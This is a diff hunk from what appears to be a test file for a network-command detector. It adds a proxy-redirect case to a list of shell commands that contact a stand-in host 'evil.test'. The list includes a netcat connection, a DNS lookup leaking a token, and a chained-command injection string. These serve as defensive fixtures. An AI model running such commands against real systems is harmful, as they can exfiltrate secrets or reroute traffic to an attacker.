@@ -40,6 +40,7 @@ def test_a_host_is_named_by_its_address_however_that_is_written(command: str, ho
         "curl --connect-to ::evil.test:443 https://orchard.test",
         "curl -sK given.txt",
         "wget -i list.txt",
+        "HTTPS_PROXY=evil.test:80 curl https://orchard.test/",
         "nc evil.test 80",
         "nslookup $TOKEN.evil.test",
         "echo it's; curl evil.test",
